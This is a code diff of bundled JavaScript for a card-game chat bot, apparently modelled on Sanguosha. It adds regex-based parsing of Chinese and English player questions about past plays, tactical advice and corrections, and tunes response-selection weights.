+		const laid = laidOn(from, scene);
+		return laid ? { ...base, move: "explain", clause: "was_laid", facts: [laid], found: NOTHING3 } : null;
+	}
+	const got = GOT.test(text) ? gotIn(text, named, scene) : null;
+	if (got) return { ...base, move: "confirm", clause: "tell", facts: [got], found: NOTHING3 };
+	const lost = LOST3.test(text);
+	const fell = FELL.test(text);
+	if (!lost && !fell && !LIVED.test(text)) return null;
+	const whom = fell ? named.filter((seat) => seatOf(scene, seat)?.alive === false).pop() ?? (cardsIn(text).some(({ card }) => card !== "tao" && card !== "jiu") ? void 0 : justFallen(scene)) : named.filter((seat) => seat !== from).pop() ?? from;
+	if (whom === void 0 || fell && scene.facts.some(({ kind, to: to2, by }) => kind === "death" && to2 === whom && by === null))
+		return null;
+	const to = lost && named.length > 0 ? named : [whom];
+	const hits = scene.facts.filter(({ kind, to: on }) => kind === "hit" && on !== null && to.includes(on));
+	const last = hits.filter(({ turn }) => !lost || turn >= scene.turn - 2).pop();
+	const question = { ...NOTHING3.asked, to: [...new Set(to)] };
+	if (last === void 0)
+		return lost ? { ...base, move: "unsure", clause: "not_seen", found: { asked: question, deeds: [] } } : null;
+	const then = hits.filter(({ turn, by, card }) => turn === last.turn && by === last.by && card === last.card);
+	const deed = { ...last, num: lost ? last.num : sum(then), to: [...new Set(then.flatMap((hit) => hit.to ?? []))] };
+	const healed = lost ? [] : healedIn(whom, last, scene);
+	return {
+		...base,
+		move: "confirm",
+		clause: fell && healed.length > 0 ? "not_enough" : !fell && !lost && healed.length > 0 ? "brought_back" : "by_means",
+		// When it was is told once.
+		found: { asked: { ...question, all: healed.length > 0 }, deeds: [deed] },
+		...healed.length > 0 && !fell ? { facts: healed.slice(-1) } : {}
+	};
+}
+const justFallen = ({ facts, turn }) => facts.filter((fact) => fact.kind === "death" && fact.turn >= turn - 2).pop()?.to ?? void 0;
+const NOTHING3 = {
+	asked: { wants: "means", what: "hurt", cards: [], when: null, all: false, to: [] },
+	deeds: []
+};
+const sum = (facts) => facts.reduce((all, { num }) => all + num, 0);
+const GOT = /(?:咋|怎么)(?:就|又|会)?(?:跑|到|去|在|归|落)|\bhow (?:did|come) .{1,30} (?:get|got|end(?:ed)? up|has|have)\b/;
+function gotIn(text, named, { uses, facts }) {
+	const [gear] = cardsIn(text).filter(({ card }) => GEAR.has(card));
+	const worn = uses.filter(({ name, by }) => name === gear?.card && named.includes(by)).pop();
+	if (worn === void 0) return null;
+	const then = facts.filter(
+		({ by, turn, kind, card }) => by === worn.by && turn === worn.turn && (kind === "steal" && (card === null || card === worn.name) || kind === "aimed" && card === "jiedao")
+	);
+	return then.find(({ card }) => card === worn.name) ?? then.pop() ?? null;
+}
+const healedIn = (whom, { turn }, { facts }) => facts.filter((fact) => (fact.kind === "heal" || fact.kind === "rescue") && fact.to === whom && fact.turn === turn);
+
+// src/chatter/plan/advice.ts
+const FOR_ALL2 = /南蛮|万箭|\b(?:barrage|arrows?|aoe|nanman|wanjian|barbarians?|savages?)\b/;
+function advised(move, asked) {
+	const { scene } = asked;
+	const base = { occasion: "ask_act", asked: move, ...taking(move) };
+	const named = namedBy(asked).seats.filter((seat) => isTarget(seat, asked));
+	const all = named.length > 0 ? named : living(scene).flatMap(({ seat }) => isTarget(seat, asked) ? [seat] : []);
+	const enemies = all.filter((seat) => takenFor(seat, asked) === "enemy" && !isBound(seat, asked));
+	const first = enemies.map((seat) => ({
+		seat,
+		sure: asked.view.guess(seat).confidence,
+		facts: against(seat, asked).filter(({ to }) => seatOf(scene, to)?.revealed !== "fan")
+	})).filter(({ facts: facts2 }) => facts2.length > 0).sort((a, b) => b.sure - a.sure)[0];
+	if (first) return { ...base, move: "explain", clause: "advise_hit", about: first.seat, facts: first.facts };
+	const [friend] = named.filter((seat) => takenFor(seat, asked) === "friend");
+	const facts = friend === void 0 ? [] : goodOf(friend, asked);
+	if (friend !== void 0 && facts.length > 0 && named.length === 1)
+		return { ...base, move: "explain", clause: "advise_not", about: friend, facts };
+	const weakest = weakestOf(named, asked);
+	if (weakest !== void 0 && hpOf(asked, weakest) <= LOW3)
+		return { ...base, move: "explain", clause: "advise_low", about: weakest };
+	return { ...base, move: "deflect", clause: "advise_wait" };
+}
+function nowOrLater(move, asked) {
+	const { scene, me, from, text } = asked;
+	const base = { occasion: "ask_act", move: "explain", asked: move, ...taking(move) };
+	const all = living(scene).map(({ seat }) => seat);
+	const frail = weakestOf(
+		FOR_ALL2.test(text) || /^(?:为|why)/.test(text) ? all.filter((seat) => seat !== from && (seat === me || takenFor(seat, asked) === "friend")) : [],
+		asked
+	);
+	if (frail !== void 0 && hpOf(asked, frail) < LOW3) return { ...base, clause: "advise_hold", about: frail };
+	const prey = weakestOf(
+		all.filter((seat) => isTarget(seat, asked) && takenFor(seat, asked) === "enemy"),
+		asked
+	);
+	if (prey !== void 0 && hpOf(asked, prey) <= LOW3) return { ...base, clause: "advise_low", about: prey };
+	return hpOf(asked, from) <= LOW3 ? { ...base, clause: "advise_hold", about: from } : { ...base, move: "deflect", clause: "advise_wait" };
+}
+const isTarget = (seat, { scene, me, from }) => seat !== me && seat !== from && seat !== scene.table.lord && seatOf(scene, seat)?.alive === true;
+const weakestOf = (seats, asked) => [...seats].sort((a, b) => hpOf(asked, a) - hpOf(asked, b))[0];
+
 // src/chatter/plan/intending.ts
 const HELPED = /救|捞|奶|拉(?:我|一把)|桃|保我|罩我|\b(?:save|sav(?:e|ing)|heal\w*|peach\w*|help\w*|back\w*)\b/;
 const AGAIN2 = /(?:下[回次把轮]|下个?回合|以后|往后|再|还)[^,.!?]{0,6}(?:还|再|敢)[^,.!?]{0,3}([\u4e00-\u9fff])(?:不\1|[\u4e00-\u9fff我]{0,3}(?:不|吗|么)[啊呀了]?(?:$|[,.!?]))|还敢不敢|还(?:这么|这样|那么)[\u4e00-\u9fff]{1,3}(?:不|吗|么)|\b(?:(?:do|try|pull|use|play) (?:that|it|this) again|again next (?:turn|time|round)|(?:next time|next turn).{0,16}\bagain)\b/;
+const INTENDS = /我(?:准备|打算|想|要|先|这就|待会|等下)|\bi(?:'m going to|'?m gonna|'?ll| will| plan)\b/;
+const OF_MINE = /我(?!们)|^先|\b(?:i|my)\b/;
 const STRIKES_ME = /(?:[打砍杀射烧弄搞拆顺乐兵动]|突突|收拾|针对|集火)我(?!们)|\b(?:hit|attack|kill|shoot|target)(?:ing)? me\b/;
 function intentPlan(move, asked) {
 	const { scene, me, from, text } = asked;
 	const base = { occasion: "ask_act", asked: move, ...taking(move) };
 	const again = AGAIN2.test(text) ? againPlan(move, asked) : null;
 	if (again) return again;
-	const done = cardsIn(text).length > 0 && !HELPED.test(text) ? touchedBy(asked) : null;
+	const words = text.slice(...move.span);
+	if (asksWhether(text)) return nowOrLater(move, asked);
+	if (asksWhich(text) && OF_MINE.test(words)) return advised(move, asked);
+	const done = cardsIn(words).length > 0 && !HELPED.test(text) && !INTENDS.test(words) ? touchedBy(asked) : null;
 	if (done && done.by !== from) return { ...onDeed(done, move, asked), ...taking(move) };
-	if (STRIKES_ME.test(text)) return sparing(move, asked);
-	if (HELPED.test(text) && !/[打杀砍集拆]谁/.test(text)) return helpPlan(move, asked);
+	if (STRIKES_ME.test(words)) return sparing(move, asked);
+	if (HELPED.test(words) && !/[打杀砍集拆]谁/.test(text)) return helpPlan(move, asked);
 	const { about } = move;
 	const either = /还是|\bor\b/.test(text) ? [...namedBy(asked).people].filter((one) => one !== me && one !== from && seatOf(scene, one)?.alive === true) : [];
 	const target = either.find((one) => takenFor(one, asked) === "enemy") ?? either[0];
@@ -39230,7 +39905,7 @@ function dealPlan({ move, until, target, asks, spares }, asked) {
 	}
 	if (takenFor(from, asked) === "enemy") {
 		const facts = against(from, asked);
-		return { ...base, move: "refuse", clause: facts.length > 0 ? "deal_refused" : "refuse", facts };
+		return facts.length > 0 ? { ...base, move: "refuse", clause: "deal_refused", facts } : { ...base, move: "bargain", clause: "spare_if" };
 	}
 	if (asks !== null) {
 		const plan = { ...joining(asks, move, asked), until };
@@ -39435,6 +40110,223 @@ function outlookPlan(move, { scene, text }) {
 	return { ...base, clause: low ? "outlook_low" : "outlook", count: "all" };
 }
 
+// src/chatter/moves/of-record.ts
+const DELAYED2 = new Set(["lebu", "bingliang", "shandian"]);
+const YET_TO_COME2 = /打算|准备|下(?:个|一个?)?(?:回合|轮)|(?<![没])(?:要|想(?!知道|问)|该|能(?!告诉)|会|可以)|如果|手里|(?:还|就|只)剩|还有(?:几|多少)|\b(?:should|can|could|will|would|wanna|wants?|gonna|going to|need|if|next|left|with (?:me|us)|holds?|holding|hiding|sitting on my)\b/;
+const HOW_MANY_ZH = /(?:几|多少)(?!号|轮|回合|成|岁|反|忠|内|位|个意思)/;
+const HOW_MANY_EN = /\bhow (?:many|much|often)\b/;
+const POINTS = /(?:几|多少)(?:点|滴|格|口)?(?:血|伤)|(?:几|多少)[点滴格]|\b(?:hp|health|damage|dmg)\b|\bhow much\b(?! (?:longer|time))/;
+const BARE3 = /多少(?=$|[,.!?啊呀呢了下]|血)/;
+const CARDS_COUNTED = /(?:几|多少)(?:张|件|样|个)|\bcards?\b/;
+const TIMES2 = /(?:几|多少)(?:次|下|回)|\b(?:times|often|hits?)\b/;
+const BLADES = /(?:几|多少)刀|砍[^,]{0,8}(?:几|多少)[次下回]/;
+const GROUP_CARDS = /\baoes?\b|群(?:伤|攻)|范围(?:牌|伤)/;
+const LIFT = /解|拆|懈|化|揭|摘|挡|顶|\b(?:lift|remov|clear|nullif|null|negat|cancel|block|dismantl)\w*|\bt(?:ook|ake) .{0,20}off\b/;
+const CANCEL = /懈|挡|顶(?:了|的|掉)|抵消|\b(?:nullif|negat|counter|block|cancel)\w*|\bnull(?:ed|s)?\b/;
+const SAVE = /[救捞]|拉(?:回|起)|续(?:了|的|上|命)|喂|\b(?:sav|rescu|reviv)\w*|\bke(?:pt|ep) .{1,24} (?:alive|up|going)|\bpulled .{1,24} (?:up|back|through)/;
+const HEALS = /[回加奶吸](?:了|过|上|满|血|多少|几)|涨血|\b(?:heal|recover|regain|gain|restor)\w*|\bgot (?:some |the |any )?(?:hp|health)\b/;
+const KILLS = /人头|[杀收干弄][死掉走]?(?:了|过)?(?:几|多少)个|\bkill\w*/;
+const TAKES4 = /拆|顺|(?:[拿偷摸抽牵]|没)(?:走|掉|了)|弃|\b(?:st[eo]le?n?|snatch|swip|discard|dismantl|grab|rob)\w*\b|\bt(?:ook|aken?)\b/;
+const GIVES3 = /[送塞递]|给(?!.*的$).{0,8}(?:几|多少)张|\b(?:gave|giv(?:e|en)|hand(?:ed)?|pass(?:ed)?|fed)\b/;
+const HURTS = /[打砍捅剁敲劈锤揍射烧伤电削扣捶掉挨丢费损]|传导|\b(?:hit|hurt|damag|attack|slash|struck|strik|burn|cost|deal|los[et]|shot|zap|smack)\w*\b|\bt(?:ook|aken?)\b|\bw(?:ent|as going) (?:at|for|after)\b/;
+const WHO_DONE = /(?<![找招跟惹怪])(?:谁|哪个|哪位|几号)(?![都也敢家]).{0,9}(?:的|了|过|来着)|(?:的|了|过)(?:都)?是?(?:谁|哪个|哪位|几号)|\b(?:who(?:m|se)?|which (?:one )?of (?:you|u|us|them))\b.{0,24}\b(?:did|was|were|has|have|put|hit|hurt|got|kept|went|took|gave|shot|struck|that|\w+ed)\b|\bdid (?:(?:that|the|those) .{1,24}\b)?(?:anyone|anybody|somebody)\b/;
+const MEANS3 = /(?:啥|什么)(?:玩意儿?|东西|牌|招|技能)?(?:打|砍|弄|伤|烧|干)的|(?:用|拿)(?:的)?(?:啥|什么)(?:打|砍|弄|伤|烧)?|\bwhat (?:did|was) .{1,30} with\b|\bhit .{1,20} with what\b/;
+const WITHIN_ONE = /(?<!上)一(?:个)?回合|刚(?=给|才?[打砍])|\bjust\b|\bin (?:one|a single) turn\b/;
+const EVERYBODY2 = /都(?:是|有)?(?:谁|哪)|谁都|哪些|哪几|分别|\b(?:who|whom) all\b/;
+const OBJECT_ZH = /(?:给了?|[对冲朝向往盯]着?|把|将|替|帮|从|连|针对|(?:决斗|火攻|[打砍杀拆顺救捞烧奶喂贴扶捅敲劈锤射收弄坑伤揍连])(?:了|过|的|掉了?|走|着|中了?|到)?|(?<![的那张])[乐兵]了?)$/;
+const AGENT_ZH = /(?:被|让|叫|由)$/;
+const OBJECT_EN2 = /\b(?:on|to|at|for|off|from|against|after|(?:hit|slash|struck|strik|kill|kept|keep|sav|heal|burn|shot|shoot|attack|duel|chain|rob|help|peach|rescu|reviv|damag|hurt)[a-z]*)(?: the)? $/;
+const BEARS = /^(?:那|这)?(?:身上|头上|手牌|血)|^[^谁,]{0,8}(?:被|挨|吃了|中了|(?<![打敲砍烧干])掉|少了|损|丢|倒|死|没了)|^ (?:ever |even |already )?(?:has |have |had )?(?:lost|los[et]|taken|suffer|ate|eaten|been|was|got) ?/;
+const BEARS_EN_LOSS = /\b(?:los[et]|lost|taken|suffered|eaten|ate)\b/;
+const BEFELL = /^(?: ever)? (?:got (?!rid)|gained|lost|ate|was|were|healed|did|has (?:he|she|\w+) )\b|^.{0,5}[吃掉回中][了血]/;
+function slotsOf3(text, mentions) {
+	const spoken = mentions.filter(({ called }) => !called);
+	const all = spoken.some(({ kind, seat }) => kind !== "who" && seat !== null) ? spoken : mentions;
+	const who = all.find(({ kind }) => kind === "who");
+	const isObject = ({ start, end }) => {
+		const before = text.slice(0, start);
+		if (AGENT_ZH.test(before)) return false;
+		if (/\bfrom (?:the )?$/.test(before) && BEARS_EN_LOSS.test(before)) return false;
+		return OBJECT_ZH.test(before) || OBJECT_EN2.test(before) || BEARS.test(text.slice(end));
+	};
+	const asked = who === void 0 ? void 0 : isObject(who) || BEFELL.test(text.slice(who.end)) ? "to" : "by";
+	const named = all.filter(
+		({ kind, seat, start }) => kind !== "who" && seat !== null && !/\bof $/.test(text.slice(0, start))
+	);
+	const seats = (of) => [...new Set(of.flatMap(({ seat }) => seat ?? []))];
+	if (asked === "by") {
+		const marked = named.filter(isObject);
+		const others = named.filter(({ kind }) => kind !== "self");
+		const whom = (marked.length > 0 ? marked : others.length > 0 ? others : named).slice(-1);
+		return { to: seats(whom), asked };
+	}
+	if (asked === "to") return { to: [], asked, ...doerOf(named) };
+	const objects = named.filter(isObject);
+	const subjects = named.filter((one) => !objects.some(({ seat }) => seat === one.seat));
+	return { to: seats(objects), ...doerOf(subjects) };
+}
+const doerOf = (mentions) => {
+	const by = mentions[0]?.seat ?? null;
+	return by === null ? {} : { by };
+};
+function whatOf(text, cards, counts) {
+	const laid = cards.some((card) => DELAYED2.has(card));
+	if (laid && LIFT.test(text)) return "lift";
+	if (cards.includes("wuxie") || !counts && CANCEL.test(text)) return "wuxie";
+	if (SAVE.test(text) || HEALS.test(text) && !/[回]合/.test(text.replace(/回合/g, ""))) return "heal";
+	if (cards.length > 0 && !counts && /传导|掉了?血|\b(?:hp|health|damage)\b/.test(text)) return "hurt";
+	if (cards.length > 0) return cards.every((card) => GEAR.has(card)) ? "take" : "use";
+	if (KILLS.test(text)) return "kill";
+	if (TAKES4.test(text) && CARDS_COUNTED.test(text)) return "take";
+	if (GIVES3.test(text) && CARDS_COUNTED.test(text)) return "give";
+	return HURTS.test(text) ? "hurt" : !counts && TAKES4.test(text) ? "take" : null;
+}
+const STRUCK = /[砍杀]|\b(?:slash|struck|strik|hit)\w*/;
+function rarest(named) {
+	const rare = named.filter((card) => card !== "sha" && card !== "shan");
+	return [...new Set(rare.length > 0 ? rare : named)];
+}
+function ofRecord(text, mentions, scene) {
+	if (YET_TO_COME2.test(text)) return null;
+	const named = [...cardsIn(text), ...skillsIn(text, scene)].filter(
+		(card) => !mentions.some(({ start, end }) => card.start >= start && card.end <= end)
+	);
+	const many = HOW_MANY_ZH.test(text) || HOW_MANY_EN.test(text);
+	const asksWho = mentions.some(({ kind }) => kind === "who") && WHO_DONE.test(text);
+	const asksMeans = !many && MEANS3.test(text);
+	if (!many && !asksMeans && !asksWho) return null;
+	const cards = BLADES.test(text) ? ["sha"] : GROUP_CARDS.test(text) ? [...FOR_ALL] : rarest(named.map(({ card }) => card === "jiu" && STRUCK.test(text) ? "sha" : card));
+	const what = asksMeans ? "hurt" : whatOf(text, cards, many);
+	if (what === null) return null;
+	const slots = slotsOf3(text, mentions);
+	const when = WITHIN_ONE.test(text) ? "own_turn" : whenIn(text);
+	const base = { what, cards, when, all: EVERYBODY2.test(text) };
+	if (asksMeans) return { ...base, cards: [], wants: "means", ...toWhom(slots) };
+	if (many) {
+		const points = (POINTS.test(text) || BARE3.test(text)) && (HURTS.test(text) || HEALS.test(text) || SAVE.test(text));
+		const kind = points ? HEALS.test(text.replace(/回合/g, "")) ? "heal" : "hurt" : what;
+		if (!points && kind === "hurt" && !TIMES2.test(text)) return null;
+		const { by, ...rest } = slots;
+		const self = kind === "heal" && slots.to.length === 0 && by !== void 0 && (points || cards.length === 0);
+		return {
+			...base,
+			what: kind,
+			wants: points ? "points" : "times",
+			...self ? { to: [by] } : toWhom({ ...rest, ...by === void 0 ? {} : { by } })
+		};
+	}
+	const whom = slots.asked === "to";
+	const hurts = whom && what === "use" && cards.some((card) => FOR_ALL.has(card));
+	return { ...base, ...hurts ? { what: "hurt" } : {}, wants: whom ? "whom" : "who", ...toWhom(slots) };
+}
+const toWhom = ({ by, to }) => by === void 0 ? { to } : { by, to };
+
+// src/chatter/plan/of-record.ts
+const ofFact = (fact) => ({ ...fact, to: fact.to === null ? [] : [fact.to], fact });
+function deedsOf2({ what, cards }, scene) {
+	const isOf = ({ card }) => cards.length === 0 || cards.some((one) => isSame(scene, one, card));
+	const facts = (match) => scene.facts.filter(match).map(ofFact);
+	switch (what) {
+		case "use": {
+			const blows = facts(({ kind, card }) => (kind === "aimed" || kind === "hit") && isOf({ card }));
+			const uses = scene.uses.filter(({ name }) => isOf({ card: name })).map(({ name: card, ...use }) => {
+				const fact = blows.find(
+					({ fact: one }) => one?.card === card && one.turn === use.turn && one.by === use.by && use.to.includes(one.to ?? -1)
+				)?.fact;
+				return { ...use, card, num: 1, ...fact === void 0 ? {} : { fact } };
+			});
+			return uses.length > 0 ? uses : blows;
+		}
+		case "hurt":
+			return cards.includes("tiesuo") ? facts(
+				({ kind, card, by, to, turn }) => kind === "hit" && scene.uses.some((use) => use.turn === turn && use.by === by && use.name === card) && !scene.uses.some((use) => use.turn === turn && use.name === card && to !== null && use.to.includes(to))
+			) : facts((fact) => fact.kind === "hit" && isOf(fact));
+		case "heal": {
+			const meant = cards.filter((card) => card !== "tiesuo");
+			return facts(
+				(fact) => (fact.kind === "heal" || fact.kind === "rescue") && (meant.length === 0 || meant.some((card) => isSame(scene, card, fact.card)))
+			);
+		}
+		case "kill":
+			return facts(({ kind }) => kind === "death");
+		case "take":
+			return facts(
+				(fact) => (fact.kind === "steal" || fact.kind === "discard") && fact.good !== true && fact.by !== fact.to && isOf(fact)
+			);
+		case "give":
+			return facts((fact) => isHandover(fact));
+		case "lift":
+			return facts(
+				(fact) => isOf(fact) && (fact.kind === "wuxie" && fact.against === null || (fact.kind === "steal" || fact.kind === "discard") && fact.good !== false)
+			);
+		case "wuxie":
+			return facts((fact) => fact.kind === "wuxie" && (cards.every((card) => card === "wuxie") || isOf(fact)));
+	}
+}
+function found2(asked, scene) {
+	const { by, to, when, wants, what } = asked;
+	const all = deedsOf2(asked, scene).filter(
+		(deed) => (by === void 0 || deed.by === by) && (to.length === 0 || to.some((seat) => deed.to.includes(seat) || what === "wuxie" && deed.fact?.against === seat))
+	);
+	const last = all[all.length - 1]?.turn;
+	const then = all.filter(
+		(deed) => when === "own_turn" ? deed.turn === last : when === null || isThen(when, deed, scene)
+	);
+	const others = then.filter((deed) => deed.by === null || !deed.to.includes(deed.by) || deed.to.length > 1);
+	return { asked, deeds: wants === "who" && what !== "lift" && what !== "wuxie" && others.length > 0 ? others : then };
+}
+function askedIn({ text, scene, from, me, moves, memory, meant }) {
+	const [last] = memory.exchanges(from, me);
+	const he = [...moves.map(({ about }) => about), last?.asked.about, last?.answered?.about].find(
+		(seat) => seat !== void 0 && seat !== from
+	) ?? (meant ? me : null);
+	const mentions = mentionsIn(text, { scene, from, hearer: me, he });
+	const clauses = clausesOf(text);
+	for (const { start, end } of clauses) {
+		const within = mentions.filter((one2) => one2.start >= start && one2.end <= end).map((one2) => ({ ...one2, start: one2.start - start, end: one2.end - start }));
+		const one = ofRecord(text.slice(start, end), within, scene);
+		if (one)
+			return withBefore(
+				one,
+				slotsOf3(
+					text.slice(0, start),
+					mentions.filter((at) => at.end <= start)
+				)
+			);
+	}
+	return clauses.length > 1 ? ofRecord(text, mentions, scene) : null;
+}
+const withBefore = (asked, { by, to }) => asked.to.length === 0 && asked.by === void 0 && asked.wants !== "whom" && (asked.cards.length === 0 || asked.cards.every((card) => DELAYED2.has(card))) ? asked.wants === "who" && by !== void 0 ? { ...asked, to: to.length > 0 ? to : [by] } : { ...asked, to, ...by === void 0 ? {} : { by } } : asked;
+function recordPlan(move, asked) {
+	const { scene, moves } = asked;
+	const heard = askedIn(asked);
+	if (heard === null) return null;
+	const question = moves.find(isQuestion) ?? move;
+	if (heard.wants === "who" && (question.facts ?? []).some(({ verdict }) => verdict === "true")) return null;
+	const all = found2(heard, scene);
+	const base = { occasion: "ack", asked: question, found: all };
+	if (heard.wants === "times" || heard.wants === "points") return { ...base, move: "count", clause: "summed" };
+	const last = all.deeds[all.deeds.length - 1];
+	if (last === void 0) return { ...base, move: "unsure", clause: "not_seen" };
+	if (heard.wants === "means") return { ...base, move: "confirm", clause: "by_means" };
+	const others = last.to.filter((seat) => seat !== last.by);
+	const use = last.by === null || last.card === null ? null : { ...base, move: "confirm", about: last.by, words: last.card };
+	if (heard.what === "use" && use && others.length > 0) {
+		if (heard.wants === "whom") return { ...use, clause: "used_on", them: others };
+		if (heard.to.length === 0 && (last.to.length > MOST_NAMED2 || last.fact?.group))
+			return { ...use, clause: "did_use" };
+	}
+	if (heard.wants === "whom" && heard.what !== "wuxie") return { ...base, move: "confirm", clause: "befell" };
+	const told = toldOf(all, last);
+	if (told.length > 0) return { ...base, move: "confirm", clause: "tell", facts: told };
+	return use ? { ...use, clause: others.length > 0 ? "used_on" : "did_use", them: others } : { ...base, move: "unsure", clause: "not_seen" };
+}
+const MOST_NAMED2 = 2;
+function toldOf({ asked, deeds }, last) {
+	const of = asked.all ? deeds.filter(({ by }, i) => deeds.findIndex((other, j) => j > i && other.by === by) < 0) : asked.what === "wuxie" ? deeds.filter(({ turn, card, to }) => turn === last.turn && card === last.card && to[0] === last.to[0]) : [last];
+	return of.flatMap(({ fact }) => fact ?? []).slice(-3);
+}
+
 // src/chatter/plan/unclear.ts
 function unclearPlan(move, asked) {
 	const { scene, me, from, tone, text } = asked;
@@ -39470,6 +40362,66 @@ function latelyBetween({ scene, me, from }) {
 	return near.slice(-1);
 }
 
+// src/chatter/plan/bare-mark.ts
+function wondering({ memory, from, me, scene, lastWords }) {
+	const [last] = memory.exchanges(from, me);
+	const words = last !== void 0 && last.turn >= scene.turn - 1 ? lastWords(me)?.replace(LEAD3, "") : void 0;
+	const base = { occasion: "unclear", asked: null };
+	return words === void 0 ? { ...base, move: "clarify", clause: "whats_up" } : { ...base, move: "explain", clause: "said_again", words };
+}
+const LEAD3 = /^.{1,16}[：:]\s?/;
+const BARE_MARK = /^\s*\?[\s?!]*$/;
+function byAnother({ text, scene, me, from }) {
+	const cards = cardsIn(text).map(({ card }) => card);
+	const hit = [...scene.facts].reverse().find(({ to, card, turn }) => to === from && card !== null && cards.includes(card) && turn >= scene.turn - 2);
+	return hit && hit.by !== me && hit.by !== from ? { kind: "hit", by: me, to: from, card: hit.card ?? "", verdict: "false" } : null;
+}
+
+// src/chatter/plan/set-straight.ts
+const MADE_OF = new Set(["praise", "vouch", "accuse", "blame", "taunt", "agree", "joke"]);
+function setStraight({ moves, scene, text }) {
+	if (moves.some(isQuestion)) return null;
+	const stale = JUST2.test(text) ? staleIn(moves, scene) : null;
+	if (stale) return stale;
+	const facts = moves.flatMap((move) => move.facts ?? []);
+	const act = moves.find((move) => MADE_OF.has(move.act));
+	if (act === void 0 || facts.some(({ verdict }) => verdict === "true")) return null;
+	const wrong = facts.find(
+		(said) => said.verdict === "false" && said.denied !== true && said.less === void 0 && isNamed3(said, text)
+	);
+	if (wrong?.by === void 0) return null;
+	const real = meantBy2(wrong, wrong.by, scene.facts);
+	if (real === void 0) return null;
+	const base = { move: "correct", occasion: "point_at", about: wrong.by, facts: [real], asked: act };
+	return real.by === wrong.by ? { ...base, clause: "never_but" } : { ...base, clause: "mistaken", not: wrong.by };
+}
+const JUST2 = /又|刚|\b(?:again|just)\b/;
+function staleIn(moves, scene) {
+	for (const move of moves.filter(({ act }) => act === "report"))
+		for (const { by, to, fact, kind } of move.facts ?? []) {
+			const old = fact === void 0 ? void 0 : factOf(scene, fact);
+			if (kind !== "hit" || old === void 0 || by === void 0 || to === void 0 || old.turn >= scene.turn - 2)
+				continue;
+			const last = scene.facts.filter((one) => one.kind === kind && one.by === by && one.to !== by && one.turn >= scene.turn - 2).pop();
+			if (last)
+				return {
+					move: "correct",
+					clause: "mistaken",
+					occasion: "point_at",
+					about: by,
+					not: to,
+					facts: [last],
+					asked: move
+				};
+		}
+	return null;
+}
+const isNamed3 = ({ card, kind }, text) => card !== void 0 && (kind === "wuxie" || cardsIn(text).some((one) => one.card === card));
+function meantBy2({ kind, to, card }, by, facts) {
+	const alike = facts.filter((fact) => fact.kind === kind && fact.by !== null && fact.by !== fact.to);
+	return alike.filter((fact) => fact.card === card && fact.by !== by && fact.over === void 0 && (to ?? fact.to) === fact.to).pop() ?? alike.filter((fact) => fact.by === by && kind === "wuxie").pop();
+}
+
 // src/chatter/plan/respond/called.ts
 const OUTCRY3 = /^我(?:去|靠|草|擦)(?=[\d一二三四五六七八主这那他她你,，!！])/;
 function wantsOfLine({ text, moves, scene, from, me }) {
@@ -39479,7 +40431,7 @@ function wantsOfLine({ text, moves, scene, from, me }) {
 const sumOf2 = (called, ...all) => called.reduce((sum, { want, chance }) => sum + chance * Math.max(...all.map((suits) => suits[want] ?? 0)), 0);
 
 // src/chatter/plan/respond/fitting-weights.ts
-const WEIGHTS8 = {
+const WEIGHTS9 = {
 	"about:named@planned": 0.45,
 	"about:none": -0.1,
 	"about:other": -0.25,
@@ -40125,7 +41077,7 @@ function* weighedIn({
 	}
 	if (part !== "" && clause !== "") yield [`${part}/${clause}`, 1];
 }
-function fitnessOf(offer, weights = WEIGHTS8) {
+function fitnessOf(offer, weights = WEIGHTS9) {
 	let sum = 0;
 	for (const [name, value] of weighedIn(offer)) sum += value * (weights[name] ?? 0);
 	return sum;
@@ -40133,17 +41085,17 @@ function fitnessOf(offer, weights = WEIGHTS8) {
 
 // src/chatter/plan/respond/choice.ts
 const MARGIN = 0.4;
-const SURELY2 = 0.6;
+const SURELY4 = 0.6;
 const ANOTHER = 0.6;
 const PLAIN_LEAD = 0.7;
-const holdOf2 = ({ way, sum }, owed) => way === PLANNED3 && (owed || sum >= SURELY2) ? Infinity : MARGIN;
+const holdOf2 = ({ way, sum }, owed) => way === PLANNED3 && (owed || sum >= SURELY4) ? Infinity : MARGIN;
 function foremost2(offers, fitness = fitnessOf) {
 	const [first, second] = offers;
 	if (first === void 0) return null;
 	if (first.signs.plain === 1 && first.worth - (second?.worth ?? 0) >= PLAIN_LEAD) return first;
-	return likeliest2(first, offers.slice(1), first.holds, fitness);
+	return likeliest3(first, offers.slice(1), first.holds, fitness);
 }
-function likeliest2(first, others, lead, fitness) {
+function likeliest3(first, others, lead, fitness) {
 	if (lead === Infinity) return first;
 	let best = first;
 	let most = fitness(first) + lead;
@@ -40377,7 +41329,7 @@ function isAnchored(plan, move, grounds) {
 const clauses = (...names) => new Set(names);
 const ALWAYS2 = [
 	// A number, words or a particular that was asked for.
-	clauses("quote", "tallied", "hand_count", "hit_all", "came_of", "hit_none", "unseen_card", "no_suit", "fell_flat"),
+	clauses("quote", "hand_count", "came_of", "hit_none", "unseen_card", "no_suit", "fell_flat"),
 	// Whoever has lost the thread, is back, or brings another's rude word, wants nothing else.
 	clauses("recap", "recap_begun", "recap_sides", "recap_deed", "recap_play", "welcome_back", "said_again"),
 	clauses("slandered", "abused_third"),
@@ -40391,7 +41343,11 @@ const ALWAYS2 = [
 		"deal_first",
 		"deal_after",
 		"deal_refused",
-		"deal_broken"
+		"deal_broken",
+		"no_surrender",
+		"left_over",
+		"unafraid",
+		"grateful"
 	)
 ];
 const isAlways = (clause) => ALWAYS2.some((some) => some.has(clause));
@@ -40401,7 +41357,20 @@ const YES_OR_NO = clauses("agreed", "disagreed", "patience");
 const TURNS2 = clauses("my_turn", "not_my_turn");
 const HEAVY3 = new Set(["loss", "health", "love"]);
 const NAMES_WANTED = /(?:谁|哪个|哪位|几号).{0,10}(?:[反忠内]|可疑|嫌疑|怀疑|有问题|不像好人)|(?:怀疑|觉得|猜).{0,4}(?:谁|哪个|几号)|嫌疑|\bwho(?:'?s| is| do| are)?\b.{0,24}\b(?:rebel|reb|spy|spie|nei|turncoat|traitor|loyal\w*|trust|sus\w*|other one|last one|bad guy)s?\b/;
+const LEAVES = /晚安|拜拜|再见|(?:先|我)[^,]{0,3}[撤下走溜]了?|\b(?:gn|good ?night|nite|bye|gtg|cya|see (?:you|ya))\b/;
+const BESIDE_GUESS = new Set(["ask_guess", "report"]);
+const VIEW = /(?:怎么|咋)(?:看|想)|\bwhat do (?:you|u) think\b/;
 const SUIT = /红桃|黑桃|方块|方片|梅花|[红黑]牌|\b(?:hearts?|spades?|clubs?|diamonds?)\b/;
+const WISHES = new Set(["order", "propose", "promise"]);
